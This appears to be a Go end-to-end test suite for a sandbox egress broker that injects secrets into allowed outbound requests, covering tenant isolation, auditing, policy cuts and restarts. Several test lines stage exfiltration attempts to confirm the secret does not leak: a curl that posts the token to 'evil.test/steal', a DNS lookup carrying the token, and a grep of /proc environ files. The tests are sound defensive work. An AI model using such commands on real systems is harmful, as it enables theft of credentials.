package e2e

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// testCA is a CA of the test's own, for its HTTPS upstreams.
type testCA struct {
	cert *x509.Certificate
	key  *ecdsa.PrivateKey
	pem  []byte
}

func newTestCA(t *testing.T) *testCA {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "e2e upstream CA"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		KeyUsage: x509.KeyUsageCertSign, BasicConstraintsValid: true, IsCA: true}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	cert, _ := x509.ParseCertificate(der)
	return &testCA{cert: cert, key: key, pem: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})}
}

func (ca *testCA) leaf(t *testing.T, host string) tls.Certificate {
	t.Helper()
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: host},
		DNSNames: []string{host}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, ca.cert, &key.PublicKey, ca.key)
	if err != nil {
		t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}

// seen records what an upstream received.
type seen struct {
	mu   sync.Mutex
	reqs []string // one line per request: "proto method path | headers | body=..."
	// started and ended, when set, hear of a /stream request's start and
	// of its end (the error that ended it, nil if it ran its course).
	started chan struct{}
	ended   chan error
}

func (s *seen) add(r *http.Request) {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s %s |", r.Proto, r.Method, r.URL.RequestURI())
	for k, vs := range r.Header {
		fmt.Fprintf(&b, " %s=%s", k, strings.Join(vs, ","))
	}
	if body, _ := io.ReadAll(io.LimitReader(r.Body, 64<<10)); len(body) > 0 {
		fmt.Fprintf(&b, " | body=%s", body)
	}
	s.mu.Lock()
	s.reqs = append(s.reqs, b.String())
	s.mu.Unlock()
}

// stream answers a tick every 100ms for at most a minute, telling
// s.started and s.ended.
func (s *seen) stream(w http.ResponseWriter) {
	if s.started != nil {
		select {
		case s.started <- struct{}{}:
		default:
		}
	}
	var err error
	for range 600 {
		if _, err = fmt.Fprintln(w, "tick"); err != nil {
			break
		}
		w.(http.Flusher).Flush()
		time.Sleep(100 * time.Millisecond)
	}
	if s.ended != nil {
		select {
		case s.ended <- err:
		default:
		}
	}
}

func (s *seen) take() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := strings.Join(s.reqs, "\n")
	s.reqs = nil
	return out
}

// serveTLS runs an HTTPS server (HTTP/1.1 and HTTP/2) for host on addr in
// the test internet; it answers "upstream <host>" and never echoes what it
// got (that would hand the secret back to the sandbox).
func (n *testInternet) serveTLS(t *testing.T, addr, host string, ca *testCA, rec *seen) {
	t.Helper()
	cert := ca.leaf(t, host)
	l := n.listen(t, "tcp", addr)
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec.add(r)
		if strings.HasPrefix(r.URL.Path, "/stream") {
			rec.stream(w)
			return
		}
		fmt.Fprintf(w, "upstream %s\n", host)
	}), TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}, NextProtos: []string{"h2", "http/1.1"}}}
	go srv.ServeTLS(l, "", "")
	t.Cleanup(func() { srv.Close() })
}

// TestEgressBroker: a secret bound by a rule reaches the upstream in a
// header and through its placeholder (header, URL, body), and nowhere
// else; curl (HTTP/1.1 and HTTP/2), Python's urllib and requests and
// Node's fetch all go through the broker; the sandbox never holds the
// secret (environment, files, /proc, DNS queries, a server it controls,
// the broker's own answers); other hosts pass through untouched; a tenant
// cannot bind another's secret, at create or at run time; injections are
// audited; a policy change cuts live connections to a newly denied host,
// an intercepted (TLS-terminated) one included; a daemon restart keeps
// all of it, and the sandbox keeps working.
func TestEgressBroker(t *testing.T) {
	inet := newTestInternet(t, map[string]string{"api.test": "198.18.77.1", "evil.test": "198.18.77.3"})
	ca := newTestCA(t)
	caFile := filepath.Join(t.TempDir(), "upstream-ca.pem")
	if err := os.WriteFile(caFile, ca.pem, 0o644); err != nil {
		t.Fatal(err)
	}
	api := seen{started: make(chan struct{}, 1), ended: make(chan error, 1)}
	var evil seen
	inet.serveTLS(t, "198.18.77.1:443", "api.test", ca, &api)
	inet.serveTLS(t, "198.18.77.3:443", "evil.test", ca, &evil)
	// A slow stream on the second host, to be cut by a policy change.
	streaming := make(chan struct{}, 1)
	streamDone := make(chan error, 1)
	sl := inet.listen(t, "tcp", "198.18.77.3:8080")
	ssrv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case streaming <- struct{}{}:
		default:
		}
		for range 600 {
			if _, err := fmt.Fprintln(w, "tick"); err != nil {
				streamDone <- err
				return
			}
			w.(http.Flusher).Flush()
			time.Sleep(100 * time.Millisecond)
		}
		streamDone <- nil
	})}
	go ssrv.Serve(sl)
	t.Cleanup(func() { ssrv.Close() })

	suffix := inet.hostIf[len(inet.hostIf)-6:]
	d := startDaemon(t, "NETWORK=on", "NETWORK_BRIDGE=abxb"+suffix, "NETWORK_DNS="+inet.addr,
		"BEARER_TOKEN=key-a", "API_KEYS=key-b:bob", "TEMPLATE_ADMIN_USERS=default", "AUTO_CLEANUP=false",
		"NETWORK_BROKER_CA_FILE="+caFile)
	const keyA, keyB = "key-a", "key-b"

	raw := make([]byte, 16)
	_, _ = rand.Read(raw)
	secret := "sk-e2e-" + hex.EncodeToString(raw)
	status, data := d.call(t, "PUT", "/v1/secrets/API_TOKEN", keyA, map[string]any{"value": secret})
	if status != 201 {
		t.Fatalf("create secret: %d %s", status, data)
	}
	placeholder := mustJSON(t, data)["placeholder"].(string)
	if strings.Contains(string(data), secret) {
		t.Fatal("the secret's value came back from the API")
	}
	status, data = d.call(t, "GET", "/v1/secrets", keyA, nil)
	if status != 200 || strings.Contains(string(data), secret) || !strings.Contains(string(data), "API_TOKEN") {
		t.Fatalf("list: %d %s", status, data)
	}
	rules := []map[string]any{{"host": "api.test", "headers": map[string]string{"Authorization": "Bearer ${secret:API_TOKEN}"},
		"methods": []string{"GET", "POST"}, "secrets": []string{"API_TOKEN"}}}
	// Bob cannot bind Alice's secret, nor see it.
	status, data = d.call(t, "POST", "/v1/sandboxes", keyB, map[string]any{"network": map[string]any{"mode": "egress", "rules": rules}})
	if status != 400 {
		t.Fatalf("bob bound alice's secret: %d %s", status, data)
	}
	if status, data = d.call(t, "GET", "/v1/secrets/API_TOKEN", keyB, nil); status != 404 {
		t.Fatalf("bob sees alice's secret: %d %s", status, data)
	}

	// Nor at run time, on a sandbox of his own.
	bobs := createRaw(t, d, keyB, map[string]any{"network": map[string]any{"mode": "egress"}})
	t.Cleanup(func() { d.call(t, "DELETE", "/v1/sandboxes/"+bobs, keyB, nil) })
	if status, data = d.call(t, "PUT", "/v1/sandboxes/"+bobs+"/network", keyB, map[string]any{"mode": "egress", "rules": rules}); status != 400 {
		t.Fatalf("bob bound alice's secret at run time: %d %s", status, data)
	}

	id := createRaw(t, d, keyA, map[string]any{"env": map[string]string{"TOKEN": placeholder},
		"network": map[string]any{"mode": "egress", "rules": rules}})
	// AUTO_CLEANUP is off (the restart below keeps the sandbox): remove it
	// whatever happens.
	t.Cleanup(func() { d.call(t, "DELETE", "/v1/sandboxes/"+id, keyA, nil) })

	// The secret's two halves, joined by the shell's printf so that no
	// process's command line holds it.
	half := len(secret) / 2
	pat := fmt.Sprintf(`printf '%%s%%s\n' '%s' '%s'`, secret[:half], secret[half:])
	check := func(what string) {
		t.Helper()
		// curl, HTTP/1.1 and HTTP/2, header rule and placeholder in a
		// header, the URL and the body.
		out := execIn(t, d, keyA, id, `curl -sS --http1.1 -H "X-Token: $TOKEN" https://api.test/v1/h1?k=$TOKEN; `+
			`curl -sS --http2 -d "{\"key\":\"$TOKEN\"}" -w ' %{http_version}\n' https://api.test/v1/h2`)
		if !strings.Contains(out, "upstream api.test") || !strings.HasSuffix(strings.TrimSpace(out), " 2") {
			t.Fatalf("%s: curl through the broker: %q", what, out)
		}
		got := api.take()
		if strings.Count(got, "Bearer "+secret) != 2 || !strings.Contains(got, "X-Token="+secret) || !strings.Contains(got, "k="+secret) ||
			!strings.Contains(got, `HTTP/2.0 POST /v1/h2`) || !strings.Contains(got, `body={"key":"`+secret+`"}`) {
			t.Fatalf("%s: upstream did not get the secret where the rules say:\n%s", what, got)
		}
		if strings.Contains(got, placeholder) {
			t.Fatalf("%s: a placeholder reached the bound host:\n%s", what, got)
		}
		// Python's urllib and requests, and Node's fetch, trust the broker
		// through the CA variables; requests and fetch send the
		// placeholder in a JSON body.
		out = execIn(t, d, keyA, id, `python3 -c 'import urllib.request; print(urllib.request.urlopen("https://api.test/py", timeout=10).read().decode())'`)
		if !strings.Contains(out, "upstream api.test") {
			t.Fatalf("%s: python urllib: %q", what, out)
		}
		out = execIn(t, d, keyA, id, `python3 -c 'import os, requests; print(requests.post("https://api.test/requests", json={"key": os.environ["TOKEN"]}, timeout=10).text)' 2>&1`)
		if !strings.Contains(out, "upstream api.test") {
			t.Fatalf("%s: python requests (the template needs python3-requests): %q", what, out)
		}
		out = execIn(t, d, keyA, id, `node -e 'fetch("https://api.test/node", {method: "POST", body: JSON.stringify({key: process.env.TOKEN})}).then(r=>r.text()).then(console.log, e=>console.log("ERR", e))' 2>&1`)
		if !strings.Contains(out, "upstream api.test") {
			t.Fatalf("%s: node fetch (the template needs node): %q", what, out)
		}
		got = api.take()
		if strings.Count(got, "Bearer "+secret) != 3 || strings.Count(got, `"key":"`+secret+`"`) != 1 || strings.Count(got, `"key": "`+secret+`"`) != 1 ||
			!strings.Contains(got, "/requests") || !strings.Contains(got, "/node") {
			t.Fatalf("%s: urllib/requests/fetch requests lacked the header or the body's secret:\n%s", what, got)
		}
		// Another host: passed through by SNI (the sandbox sees its real
		// certificate, hence -k), the placeholder stays a placeholder, in
		// headers and bodies.
		out = execIn(t, d, keyA, id, `curl -sSk -H "X-Token: $TOKEN" -d "k=$TOKEN" https://evil.test/steal; curl -sS -H "X-Token: $TOKEN" http://198.18.77.3/plain`)
		if !strings.Contains(out, "upstream evil.test") || !strings.Contains(out, "hello from the test internet") {
			t.Fatalf("%s: pass-through: %q", what, out)
		}
		got = evil.take()
		if strings.Contains(got, secret) || !strings.Contains(got, "X-Token="+placeholder) || !strings.Contains(got, "body=k="+placeholder) ||
			strings.Contains(got, "Authorization") {
			t.Fatalf("%s: an unbound host got the secret or lost the placeholder:\n%s", what, got)
		}
		// The broker's own answers: a request on the intercepted
		// connection for another host is refused (421), before any rule.
		out = execIn(t, d, keyA, id, `curl -sS -i -H "Host: evil.test" -H "X-Token: $TOKEN" https://api.test/misdirected`)
		if !strings.Contains(out, " 421") || strings.Contains(out, secret[:half]) || strings.Contains(out, secret[half:]) {
			t.Fatalf("%s: a misdirected request: %q", what, out)
		}
		if got := api.take(); got != "" {
			t.Fatalf("%s: a misdirected request reached the upstream:\n%s", what, got)
		}
		// DNS: the sandbox may put the placeholder in a query (the test
		// internet's DNS server sees it), never the secret.
		execIn(t, d, keyA, id, `getent hosts "$TOKEN.evil.test" >/dev/null; true`)
		var sawPlaceholder bool
		for _, q := range inet.queries() {
			if strings.Contains(q, strings.ToLower(secret[:half])) || strings.Contains(q, strings.ToLower(secret[half:])) {
				t.Fatalf("%s: the secret in a DNS query: %q", what, q)
			}
			sawPlaceholder = sawPlaceholder || strings.Contains(q, strings.ToLower(placeholder))
		}
		if !sawPlaceholder {
			t.Fatalf("%s: the DNS server never saw the placeholder's query (so it sees nothing): %q", what, inet.queries())
		}
		// The secret is nowhere in the sandbox: environment, files,
		// processes.
		out = execIn(t, d, keyA, id, pat+` | grep -rlsF -f - /etc /tmp /workspace /home /run /.agentbox /proc/[0-9]*/environ /proc/[0-9]*/cmdline; env | grep -cF "$(`+pat+`)"`)
		if strings.TrimSpace(out) != "0" {
			t.Fatalf("%s: the secret is inside the sandbox: %q", what, out)
		}
	}
	check("first run")

	// Every injection is audited, without the value.
	status, data = d.call(t, "GET", "/v1/audit?target="+id, keyA, nil)
	if status != 200 || !strings.Contains(string(data), "egress broker: secret API_TOKEN") || strings.Contains(string(data), secret) {
		t.Fatalf("audit: %d %s", status, data)
	}

	// Live connections to hosts the new policy denies are cut: one the
	// broker never sees (plain HTTP to port 8080, forwarded by the
	// kernel) and one it intercepts (TLS terminated, the rule's header
	// injected).
	execIn(t, d, keyA, id, `(curl -sN --max-time 60 http://198.18.77.3:8080/stream > /tmp/stream.log 2>&1; echo "exit $?" >> /tmp/stream.log) >/dev/null 2>&1 &`)
	execIn(t, d, keyA, id, `(curl -sN --max-time 60 https://api.test/stream > /tmp/tls-stream.log 2>&1; echo "exit $?" >> /tmp/tls-stream.log) >/dev/null 2>&1 &`)
	for _, c := range []chan struct{}{streaming, api.started} {
		select {
		case <-c:
		case <-time.After(20 * time.Second):
			t.Fatal("a stream never started")
		}
	}
	if got := api.take(); !strings.Contains(got, "/stream") || !strings.Contains(got, "Bearer "+secret) {
		t.Fatalf("the intercepted stream:\n%s", got)
	}
	status, data = d.call(t, "PUT", "/v1/sandboxes/"+id+"/network", keyA,
		map[string]any{"mode": "egress", "deny_out": []string{"198.18.77.3/32", "198.18.77.1/32"}, "rules": rules})
	if status != 200 {
		t.Fatalf("update policy: %d %s", status, data)
	}
	for what, c := range map[string]chan error{"plain": streamDone, "intercepted": api.ended} {
		select {
		case err := <-c:
			if err == nil {
				t.Fatalf("the %s stream to the denied host ran to its end", what)
			}
		case <-time.After(30 * time.Second):
			t.Fatalf("the %s connection to the newly denied host is still open", what)
		}
	}
	// The sandbox's end saw the intercepted stream end early, not finish.
	for i := 0; ; i++ {
		out := execIn(t, d, keyA, id, `cat /tmp/tls-stream.log`)
		if strings.Contains(out, "exit ") {
			if strings.Contains(out, "exit 0") {
				t.Fatalf("curl saw the cut stream end normally: %q", out)
			}
			break
		}
		if i == 100 {
			t.Fatalf("curl of the cut stream never ended: %q", out)
		}
		time.Sleep(100 * time.Millisecond)
	}
	if out := execIn(t, d, keyA, id, `curl -sS -m 5 http://198.18.77.3/ 2>&1; echo " rc=$?"`); !strings.Contains(out, "rc=7") && !strings.Contains(out, "rc=56") {
		t.Fatalf("a new connection to the denied host: %q", out)
	}
	// A new connection to the denied rule host: the broker refuses it
	// (a reset), nothing reaches the upstream.
	if out := execIn(t, d, keyA, id, `curl -sS -m 5 https://api.test/denied 2>&1; echo " rc=$?"`); strings.Contains(out, "upstream") || strings.Contains(out, " rc=0") {
		t.Fatalf("a new connection to the denied rule host: %q", out)
	}
	if got := api.take(); got != "" {
		t.Fatalf("a request to the denied host went out:\n%s", got)
	}
	status, data = d.call(t, "PUT", "/v1/sandboxes/"+id+"/network", keyA, map[string]any{"mode": "egress", "rules": rules})
	if status != 200 {
		t.Fatalf("policy back: %d %s", status, data)
	}

	// Rotation: the next request carries the new value.
	rotated := secret + "-rotated"
	if status, data = d.call(t, "PUT", "/v1/secrets/API_TOKEN", keyA, map[string]any{"value": rotated}); status != 200 {
		t.Fatalf("rotate: %d %s", status, data)
	}
	execIn(t, d, keyA, id, `curl -sS https://api.test/rotated`)
	if got := api.take(); !strings.Contains(got, "Bearer "+rotated) {
		t.Fatalf("after rotation:\n%s", got)
	}
	if status, data = d.call(t, "PUT", "/v1/secrets/API_TOKEN", keyA, map[string]any{"value": secret}); status != 200 {
		t.Fatalf("rotate back: %d %s", status, data)
	}
	status, data = d.call(t, "PUT", "/v1/sandboxes/"+id+"/network", keyA, map[string]any{"mode": "egress", "rules": rules})
	if status != 200 {
		t.Fatalf("policy back: %d %s", status, data)
	}

	// The CLI: a secret set from stdin, listed without its value, bound by
	// a rule from a file with `agentbox network`, then removed.
	bin, _ := binaries(t)
	cliRun := func(stdin string, args ...string) string {
		t.Helper()
		cmd := exec.Command(bin, append([]string{"--url", d.url, "--api-key", keyA}, args...)...)
		cmd.Stdin = strings.NewReader(stdin)
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("agentbox %v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	cliValue := "cli-" + secret
	if out := cliRun(cliValue+"\n", "secret", "set", "CLI_TOKEN"); !strings.Contains(out, "CLI_TOKEN\tversion 1\tplaceholder agentbox-secret-CLI_TOKEN-") {
		t.Fatalf("agentbox secret set: %q", out)
	}
	if out := cliRun("", "secret", "ls"); !strings.Contains(out, "CLI_TOKEN") || !strings.Contains(out, "API_TOKEN") || strings.Contains(out, secret) {
		t.Fatalf("agentbox secret ls: %q", out)
	}
	rulesFile := filepath.Join(t.TempDir(), "rules.json")
	cliRules := append([]map[string]any{{"host": "api.test", "headers": map[string]string{"X-Cli": "${secret:CLI_TOKEN}"}}}, rules...)
	if data, err := json.Marshal(cliRules); err != nil || os.WriteFile(rulesFile, data, 0o600) != nil {
		t.Fatal(err)
	}
	if out := cliRun("", "network", id, "--rules", rulesFile); strings.TrimSpace(out) != id {
		t.Fatalf("agentbox network: %q", out)
	}
	execIn(t, d, keyA, id, `curl -sS https://api.test/cli`)
	if got := api.take(); !strings.Contains(got, "X-Cli="+cliValue) || !strings.Contains(got, "Bearer "+secret) {
		t.Fatalf("after agentbox network:\n%s", got)
	}
	if status, data = d.call(t, "PUT", "/v1/sandboxes/"+id+"/network", keyA, map[string]any{"mode": "egress", "rules": rules}); status != 200 {
		t.Fatalf("policy back: %d %s", status, data)
	}
	cliRun("", "secret", "rm", "CLI_TOKEN")
	if out := cliRun("", "secret", "ls"); strings.Contains(out, "CLI_TOKEN") {
		t.Fatalf("agentbox secret rm left it: %q", out)
	}

	// While the daemon is down the kernel still sends the sandbox's HTTPS
	// to the broker's port, where nobody listens: refused, nothing goes
	// out around the broker (-k: a direct connection would succeed).
	down := true
	t.Cleanup(func() { // the sandboxes' cleanups need the daemon
		if down {
			d.start()
		}
	})
	d.stop()
	nsPath := filepath.Join("/run/agentbox/netns", "abxb"+suffix, id)
	out, err := exec.Command("nsenter", "--net="+nsPath, "curl", "-sSk", "-m", "5", "--resolve", "api.test:443:198.18.77.1",
		"https://api.test/daemon-down").CombinedOutput()
	if err == nil || strings.Contains(string(out), "upstream") {
		t.Fatalf("HTTPS of a sandbox with rules while the daemon is down: %v %q", err, out)
	}
	if !strings.Contains(string(out), "(7)") && !strings.Contains(string(out), "(56)") && !strings.Contains(string(out), "(35)") {
		t.Fatalf("HTTPS of a sandbox with rules while the daemon is down was not refused: %q", out)
	}
	if got := api.take(); got != "" {
		t.Fatalf("a request went out while the daemon was down:\n%s", got)
	}
	// A restart loses nothing: CA, key, secrets, rules.
	d.start()
	down = false
	check("after a restart")
	if status, data = d.call(t, "DELETE", "/v1/sandboxes/"+id, keyA, nil); status != 204 && status != 200 {
		t.Fatalf("delete: %d %s", status, data)
	}
}

// TestEgressBrokerBench measures HTTPS request latency from inside a
// sandbox to a test-internet upstream: direct egress (a sandbox without
// rules), through the broker passed through by SNI (a sandbox with rules,
// another host) and intercepted (the rule's host: TLS terminated, header
// injected, upstream re-verified). Each request is a new curl and a new
// connection (curl's time_total: connect, TLS, request, response).
// docs/benchmarks.md. AGENTBOX_BENCH=1 runs it.
func TestEgressBrokerBench(t *testing.T) {
	if os.Getenv("AGENTBOX_BENCH") == "" {
		t.Skip("a benchmark: AGENTBOX_BENCH=1 runs it (scripts/bench.sh)")
	}
	inet := newTestInternet(t, map[string]string{"api.test": "198.18.77.1", "evil.test": "198.18.77.3"})
	ca := newTestCA(t)
	caFile := filepath.Join(t.TempDir(), "upstream-ca.pem")
	if err := os.WriteFile(caFile, ca.pem, 0o644); err != nil {
		t.Fatal(err)
	}
	var api, evil seen
	inet.serveTLS(t, "198.18.77.1:443", "api.test", ca, &api)
	inet.serveTLS(t, "198.18.77.3:443", "evil.test", ca, &evil)
	suffix := inet.hostIf[len(inet.hostIf)-6:]
	d := startDaemon(t, "NETWORK=on", "NETWORK_BRIDGE=abxb"+suffix, "NETWORK_DNS="+inet.addr,
		"BEARER_TOKEN=key-a", "NETWORK_BROKER_CA_FILE="+caFile)
	const key = "key-a"
	if status, data := d.call(t, "PUT", "/v1/secrets/TOKEN", key, map[string]any{"value": "bench-value"}); status != 201 {
		t.Fatalf("secret: %d %s", status, data)
	}
	rules := []map[string]any{{"host": "api.test", "headers": map[string]string{"Authorization": "Bearer ${secret:TOKEN}"}}}
	plain := createRaw(t, d, key, map[string]any{"network": map[string]any{"mode": "egress"}})
	brokered := createRaw(t, d, key, map[string]any{"network": map[string]any{"mode": "egress", "rules": rules}})
	const n = 200
	measure := func(id, url string) []time.Duration {
		// -k: the upstream's CA is the test's, which only the broker trusts.
		out := execIn(t, d, key, id, fmt.Sprintf(`for i in $(seq %d); do curl -sk -o /dev/null -w '%%{time_total}\n' %s; done`, n, url))
		var ds []time.Duration
		for _, f := range strings.Fields(out) {
			var s float64
			if _, err := fmt.Sscanf(f, "%g", &s); err == nil {
				ds = append(ds, time.Duration(s*float64(time.Second)))
			}
		}
		if len(ds) != n {
			t.Fatalf("%s: %d samples: %q", url, len(ds), out)
		}
		return ds
	}
	for _, c := range []struct{ name, id, url string }{
		{"direct (no rules, forwarded)", plain, "https://api.test/"},
		{"broker pass-through (SNI, no rule)", brokered, "https://evil.test/"},
		{"broker intercepted (rule, header injected)", brokered, "https://api.test/"},
	} {
		ds := measure(c.id, c.url)
		t.Logf("%-44s n=%d p50=%.2fms p99=%.2fms", c.name, n, quantileMs(ds, 0.5), quantileMs(ds, 0.99))
	}
	if got := api.take(); !strings.Contains(got, "Bearer bench-value") {
		t.Fatal("the intercepted requests lacked the header")
	}
}
